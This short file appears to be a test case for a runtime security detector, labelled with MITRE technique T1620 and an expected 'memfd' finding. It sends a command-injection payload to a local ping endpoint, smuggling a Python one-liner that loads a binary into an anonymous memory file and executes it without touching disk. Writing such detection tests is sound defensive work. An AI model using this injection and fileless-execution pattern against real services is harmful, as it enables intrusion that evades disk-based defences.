# workload: python
# technique: T1620
# finds: memfd
code='import+os;f=os.memfd_create("x");os.write(f,open("/usr/bin/env","rb").read());os.execv(f"/proc/self/fd/{f}",["x"])'
curl -sg "http://127.0.0.1:18081/ping?host=x;python3+-c+'$code'"
